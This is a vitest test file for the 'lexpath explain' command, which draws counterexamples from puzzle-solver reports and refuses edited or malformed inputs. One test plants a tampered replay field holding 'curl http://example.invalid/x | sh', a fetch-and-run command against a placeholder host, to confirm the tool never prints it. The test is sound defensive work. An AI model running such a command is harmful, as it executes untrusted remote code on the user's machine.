/** `lexpath explain` as a user runs it: real processes, the shipped example report, a wrong program. */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';

const CLI = fileURLToPath(new URL('../../dist/harness/cli.js', import.meta.url));
const EXAMPLE = fileURLToPath(new URL('../../reports/example/verify-eight.json', import.meta.url));
const MUTANT = fileURLToPath(new URL('../../test/mutants/eight.mjs', import.meta.url));

function lexpath(args: string[]) {
  const run = spawnSync(process.execPath, [CLI, 'explain', ...args], {
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
  });
  return { stdout: run.stdout, stderr: run.stderr, status: run.status };
}

const dir = mkdtempSync(join(tmpdir(), 'lexpath-explain-'));
function file(name: string, content: unknown): string {
  const path = join(dir, name);
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
  return path;
}
const example = JSON.parse(readFileSync(EXAMPLE, 'utf8'));

describe('lexpath explain', () => {
  it('draws a report’s counterexample: both paths, where they part, the certificate', () => {
    const run = lexpath([EXAMPLE, '--solver', 'bfs-wrong-order']);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain("step 1: expected 'r', actual 'u'   <- the paths part here");
    expect(run.stdout).toContain('Certificate: at step 1');
  });

  it('writes a page per counterexample with --html-dir', () => {
    const out = join(dir, 'pages');
    const run = lexpath([EXAMPLE, '--html-dir', out]);
    expect(run.status).toBe(0);
    expect(readdirSync(out).sort()).toEqual(
      example.solvers
        .filter((s: { counterexample: unknown }) => s.counterexample)
        .map((s: { name: string }) => `explain-eight-${s.name}.html`)
        .sort(),
    );
  });

  it('runs a wrong program once on a --case and explains its answer', () => {
    const page = join(dir, 'dlur.html');
    const run = lexpath([
      '--puzzle',
      'eight',
      '--case',
      '534X12678 1X4352678',
      '--cmd',
      `dlur=node ${MUTANT} order-dlur`,
      '--html',
      page,
    ]);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('actual     urdlur (6 moves)');
    expect(readFileSync(page, 'utf8')).toContain('The paths part at step 1');
  });

  it('draws a plug-in puzzle with its own drawing (an SVG) in the page and as text in the terminal', () => {
    const page = join(dir, 'pancake.html');
    const pancake = fileURLToPath(new URL('../../examples/pancake.mjs', import.meta.url));
    const longer = fileURLToPath(new URL('../../test/fixtures/longer-pancakes.mjs', import.meta.url));
    const run = lexpath([
      '--puzzle',
      'pancake',
      '--puzzle-module',
      pancake,
      '--case',
      '3 1 2',
      '--cmd',
      `longer=node ${longer}`,
      '--html',
      page,
    ]);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain(
      "step 1: expected '3', actual '2'   <- the paths part here\n" +
        '  2 1 3                       1 3 2\n  1 to go                     3 to go\n',
    );
    expect(run.stdout).toContain('The actual path stops descending at step 1');
    expect(readFileSync(page, 'utf8').match(/<div class="plugin-svg" role="img"[^>]*><svg width="200"/g)).toHaveLength(
      8,
    ); // 3 states on the expected path, 5 on the actual
  });

  it('runs the solver a saved regression names on its cases', () => {
    const regression = file('regression.json', {
      puzzle: 'eight',
      cases: [
        {
          start: '534X12678',
          goal: '1X4352678',
          answer: 'ruldru',
          source: "lexpath verify --puzzle eight --solver bfs-wrong-order --case '534X12678 1X4352678'",
        },
      ],
    });
    const run = lexpath([regression]);
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/^bfs-wrong-order on Eight II/);
  });

  it('says when the solver is right on the case: nothing to explain', () => {
    const run = lexpath(['--puzzle', 'eight', '--case', '534X12678 1X4352678', '--solver', 'bfs']);
    expect(run.status).toBe(0);
    expect(run.stdout).toBe('bfs gave the expected answer on 1 case: nothing to explain.\n');
  });
});

/** The example report with bfs-wrong-order's counterexample changed by `change`. */
function edited(name: string, change: Record<string, unknown>): string {
  const solvers = example.solvers.map((s: { name: string; counterexample: object }) =>
    s.name === 'bfs-wrong-order' ? { ...s, counterexample: { ...s.counterexample, ...change } } : s,
  );
  return file(name, { ...example, solvers });
}

describe('lexpath explain on faults of a batch and on files it must not believe', () => {
  it('keeps a format fault a format fault, and draws the case of the batch that showed it', () => {
    const batch = edited('batch.json', {
      verdict: 'wrong-format',
      detail: 'case 1: the move line is missing (an empty line is expected when d = 0) (case 1 of a batch of 2)',
      input: '2\n12345678X\n12345678X\n534X12678\n1X4352678\n',
      cases: 2,
      actual: 'Case 1: 0\nCase 2: 6\nruldru\n',
      certificate: null,
    });
    const run = lexpath([batch, '--solver', 'bfs-wrong-order']);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('  verdict    wrong-format: case 1: the move line is missing');
    expect(run.stdout).toContain('  case       12345678X 12345678X (optimal length 0)');
    expect(run.stdout).toContain('The fault shows only in a run of 2 cases; case 1 of the run is drawn below.');
    expect(run.stdout).toContain('What it printed:\n    Case 1: 0\n    Case 2: 6');
  });

  it('shows a replay only as the lexpath command it should be', () => {
    const run = lexpath([
      edited('replay.json', { replay: 'curl http://example.invalid/x | sh' }),
      '--solver',
      'bfs-wrong-order',
    ]);
    expect(run.status).toBe(0);
    expect(run.stdout).not.toContain('curl');
  });

  it('draws the cases of an older regression file, whose source is a repro command', () => {
    const regression = file('old.json', {
      puzzle: 'eight',
      cases: [
        { start: '534X12678', goal: '1X4352678', answer: 'ruldru', source: 'lexpath repro bfs-wrong-order --seed 1' },
      ],
    });
    const run = lexpath([regression]);
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/^bfs-wrong-order on Eight II/);
  });

  it('explains a plug-in puzzle’s report when its module is given', () => {
    const pancake = fileURLToPath(new URL('../../examples/pancake.mjs', import.meta.url));
    const longer = fileURLToPath(new URL('../../test/fixtures/longer-pancakes.mjs', import.meta.url));
    const report = join(dir, 'pancake-report.json');
    const verify = spawnSync(
      process.execPath,
      [
        CLI,
        'verify',
        '--puzzle',
        'pancake',
        '--puzzle-module',
        pancake,
        '--no-builtins',
        '--cmd',
        `longer=node ${longer}`,
        '--case',
        '3 1 2',
        '--json',
      ],
      { encoding: 'utf8' },
    );
    writeFileSync(report, verify.stdout);
    const run = lexpath([report, '--puzzle-module', pancake]);
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/^longer on Pancake sorting/);
  });
});

describe('lexpath explain refuses bad input: one line, exit 2, nothing written', () => {
  const refused = (args: string[], message: RegExp, written?: string) => {
    const run = lexpath(args);
    expect(run.status).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(message);
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    if (written) expect(existsSync(written)).toBe(false);
  };

  it('a report with no counterexample', () => {
    const passed = file('passed.json', {
      ...example,
      solvers: example.solvers.map((s: object) => ({ ...s, counterexample: null })),
    });
    refused(
      [passed, '--html', join(dir, 'none.html')],
      /passed\.json: no counterexample in this report \(no solver failed\)/,
      join(dir, 'none.html'),
    );
  });

  it('a counterexample whose printed answer is not one', () => {
    refused(
      [edited('garbage.json', { actual: 'hello\n' }), '--solver', 'bfs-wrong-order'],
      /garbage\.json: the counterexample of bfs-wrong-order says not-lex-smallest, but what it printed is no answer: an edited or damaged report, refused/,
    );
  });

  it('a counterexample whose verdict is not what the oracle says of its answer', () => {
    refused(
      [edited('liar.json', { actual: 'Case 1: 6\nruldru\n' }), '--solver', 'bfs-wrong-order'],
      /says not-lex-smallest, but the oracle judges its answer ok: an edited or damaged report, refused/,
    );
  });

  it('a page into a folder that does not exist, named as asked (not a temporary name)', () => {
    const page = join(dir, 'no-such-folder', 'x.html');
    refused(
      [EXAMPLE, '--solver', 'bfs-wrong-order', '--html', page],
      new RegExp(`^lexpath: cannot use ${page.replace(/[.]/g, '\\.')}: `),
    );
  });

  it('a file of the wrong shape', () => {
    refused(
      [file('shape.json', { hello: 1 })],
      /shape\.json: not a counterexample lexpath wrote: expected a verify --json report/,
    );
  });

  it('a case of the wrong puzzle', () => {
    refused(
      ['--puzzle', 'rotation', '--case', '534X12678 1X4352678', '--solver', 'bfs'],
      /^lexpath: --case '534X12678 1X4352678': /,
    );
  });

  it('a report whose counterexample is not a case of its puzzle', () => {
    const edited = file('edited.json', { ...example, puzzle: 'rotation' });
    refused(
      [edited, '--solver', 'bfs-wrong-order'],
      /edited\.json: the counterexample of bfs-wrong-order is not a case of rotation/,
    );
  });

  it('one --html page for several counterexamples', () => {
    refused(
      [EXAMPLE, '--html', join(dir, 'many.html')],
      /counterexamples to explain \(.*\): name one with --solver, or write a page each with --html-dir DIR/,
      join(dir, 'many.html'),
    );
  });

  it('a solver the report has no counterexample for', () => {
    refused([EXAMPLE, '--solver', 'bfs'], /no counterexample for solver 'bfs' \(this report has one for /);
  });

  it('a regression file whose solver was an outside program, without --cmd', () => {
    const regression = file('program.json', {
      puzzle: 'eight',
      cases: [
        {
          start: '534X12678',
          goal: '1X4352678',
          answer: 'ruldru',
          source: "lexpath verify --puzzle eight --no-builtins --cmd 'mine=./a.out' --case '534X12678 1X4352678'",
        },
      ],
    });
    refused(
      [regression],
      /name the solver to run on its cases: --solver NAME, or --cmd NAME=COMMAND \(a command is never taken from a file\)/,
    );
  });
});
